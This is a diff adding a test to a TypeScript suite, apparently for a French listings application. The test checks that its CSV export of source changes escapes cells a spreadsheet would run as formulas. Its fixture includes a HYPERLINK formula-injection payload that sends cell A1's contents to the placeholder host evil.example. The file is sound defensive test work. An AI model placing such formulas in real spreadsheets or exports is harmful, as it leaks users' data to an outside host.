@@ -213,6 +213,21 @@ describe('approved changes for the sources', () => {
 		);
 	});
 
+	test('cells a spreadsheet would run as a formula are neutralised, as in the spreadsheet export', async () => {
+		const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+		await commit('300', { nom: formula, complement_adresse: '@SUM(A1)', telephone: '+33473123456' });
+
+		const changes = (await sourceChanges(db, null)).get('Hinaura')!.filter((c) => c.id === '300');
+		const lines = sourceChangesCsv(changes).split('\r\n');
+		const line = (field: string) => lines.find((l) => l.startsWith('300,') && l.includes(`,${field},`));
+
+		expect(lines.some((l) => l.includes(',=HYPERLINK') || l.includes(',"=HYPERLINK'))).toBe(false);
+		expect(line('nom')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
+		expect(line('complement_adresse')).toContain(",'@SUM(A1),");
+		// A telephone in the standard's form is a plain number: left as it is.
+		expect(line('telephone')).toContain(',+33473123456,');
+	});
+
 	test('a field brought back to its imported value drops out', async () => {
 		const before = await listingById('299');
 		await commit('299', { telephone: '+33473123456' });
